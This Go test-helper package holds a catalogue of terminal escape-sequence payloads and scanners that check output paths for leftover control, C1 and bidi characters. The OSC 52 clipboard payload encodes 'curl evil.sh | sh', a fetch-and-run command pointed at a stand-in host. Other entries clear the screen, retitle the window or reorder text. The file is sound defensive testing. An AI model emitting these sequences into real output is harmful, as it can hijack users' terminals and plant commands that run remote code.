// Package hostile holds the escape payloads the tests of every output path
// feed in: what an attacker would hide in a file name, a routine file, the
// settings file or the database. Only tests import it.
package hostile

import (
	"strconv"
	"strings"
	"unicode/utf8"
)

// Payloads maps a name to a sequence that would act on a terminal if it got
// through: write the clipboard, clear the screen, retitle the window, or
// reorder text.
var Payloads = map[string]string{
	"OSC 52 clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\a",
	"OSC 52 ST":        "\x1b]52;c;Y3VybA==\x1b\\",
	"CSI 2J clear":     "\x1b[2J\x1b[H",
	"OSC 0 title":      "\x1b]0;pwned\a",
	"8-bit CSI":        "\x9b2J",
	"C1 CSI as UTF-8":  "\u009b2J",
	"C1 OSC as UTF-8":  "\u009d0;pwned\u009c",
	"bidi override":    "\u202eevil\u202c",
	"bidi isolate":     "\u2066x\u2069",
	"bell and BS":      "\a\b\b",
	"DCS":              "\x1bP+q544e\x1b\\",
	"invalid UTF-8":    "\xff\xfe",
	"lone ESC":         "\x1b",
	"CR overwrite":     "harmless\rEVIL",
}

// All is every payload in one string.
func All() string {
	var b strings.Builder
	for _, p := range Payloads {
		b.WriteString(p)
	}
	return b.String()
}

// Found returns what in out a terminal would act on (a control character
// other than a line break, a C1 control, a bidi control, or a byte that is
// not UTF-8), or "" when there is none. Use it on text that carries no
// styling; for output styled by supine, use Foreign.
func Found(out string) string { return scan(out, false) }

// Foreign is Found for styled output: supine's own colour and style
// sequences (SGR, ESC [ ... m) are allowed, everything else is reported.
func Foreign(out string) string { return scan(out, true) }

func scan(out string, allowSGR bool) string {
	for i := 0; i < len(out); {
		r, size := utf8.DecodeRuneInString(out[i:])
		if allowSGR && r == 0x1b {
			if n := sgrLen(out[i:]); n > 0 {
				i += n
				continue
			}
		}
		bad := r == utf8.RuneError && size == 1 ||
			r < 0x20 && r != '\n' || r == 0x7f || r >= 0x80 && r < 0xa0 ||
			r == 0x061c || r == 0x200e || r == 0x200f || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069
		if bad {
			return strconv.Quote(out[i:min(len(out), i+12)])
		}
		i += size
	}
	return ""
}

// sgrLen is the length of the SGR sequence s starts with, or 0.
func sgrLen(s string) int {
	if len(s) < 3 || s[1] != '[' {
		return 0
	}
	for k := 2; k < len(s); k++ {
		c := s[k]
		switch {
		case c >= '0' && c <= '9', c == ';', c == ':':
		case c == 'm':
			return k + 1
		default:
			return 0
		}
	}
	return 0
}
